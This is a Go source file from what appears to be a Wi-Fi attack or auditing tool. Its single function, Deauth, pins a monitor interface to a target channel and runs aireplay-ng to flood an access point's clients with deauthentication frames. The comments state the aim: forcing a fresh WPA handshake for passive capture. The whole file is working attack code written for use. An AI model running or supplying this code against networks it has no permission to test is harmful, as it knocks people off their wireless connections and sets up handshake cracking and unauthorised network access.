package wireless

import (
	"context"
	"fmt"
	"strconv"
	"time"
)

// Deauth sends a burst of deauthentication frames at the target access
// point to force clients through a fresh 4-way handshake. The monitor
// interface is tuned to the target channel first when it is known;
// frames injected on the wrong channel never arrive.
//
// aireplay-ng failures are reported but non-fatal to the attack: the
// capture continues passively either way.
func (m *Manager) Deauth(ctx context.Context, iface, bssid string, channel, count int) error {
	if channel > 0 {
		if err := m.SetChannel(ctx, iface, channel); err != nil {
			m.logger.Warn("channel pin failed before deauth", "channel", channel, "error", err)
		}
	}

	m.logger.Info("sending deauth burst", "bssid", bssid, "interface", iface, "count", count)

	// aireplay-ng sends count batches of 64+64 frames; give it a
	// second per batch plus slack before pulling the plug.
	burstCtx, cancel := context.WithTimeout(ctx, time.Duration(count+5)*time.Second)
	defer cancel()

	res, err := m.runner.Run(burstCtx, "aireplay-ng",
		"-0", strconv.Itoa(count),
		"-a", bssid,
		iface,
	)
	if err != nil {
		return fmt.Errorf("aireplay-ng: %w", err)
	}
	if res.ExitCode != 0 {
		return fmt.Errorf("aireplay-ng exited %d: %s", res.ExitCode, res.Stderr)
	}
	return nil
}
